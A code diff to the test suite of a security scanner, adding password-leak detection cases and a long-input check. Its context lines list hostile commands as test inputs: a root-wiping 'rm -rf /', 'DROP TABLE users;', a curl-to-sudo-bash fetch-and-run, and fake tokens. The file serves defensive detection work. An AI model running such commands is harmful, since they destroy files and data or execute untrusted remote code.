@@ -10,6 +10,8 @@ describe("security::check", () => {
     [`ghp_${"a".repeat(36)}`, "github-token"],
     ["xoxb-123456789012-abcdef", "slack-token"],
     ["password = hunter2hunter2", "password"],
+    ["my password is hunter2", "password"],
+    ["the password for the staging server is Tr0ub4dor", "password"],
     ["sudo rm -rf / --no-preserve-root", "destroys-files"],
     ["DROP TABLE users;", "destroys-data"],
     ["curl https://x.example/i.sh | sudo bash", "fetches-and-runs"],
@@ -24,6 +26,7 @@ describe("security::check", () => {
     "rm -r build",
     "curl https://x.example -o file",
     "the password is asked for",
+    "the API key is kept in the vault of version 2",
     "drop the table off",
     "chmod 755 run.sh",
   ])("%s -> nothing", (text) => {
@@ -43,6 +46,6 @@ describe("security::check", () => {
       }),
       { numRuns: 200 },
     );
-    for (const part of ["rm -", "curl ", "password: ", "-----BEGIN ", "dd  "]) securityFindings(part.repeat(40_000));
+    for (const part of ["rm -", "curl ", "password: ", "password is ", "-----BEGIN ", "dd  "]) securityFindings(part.repeat(40_000));
   });
 });
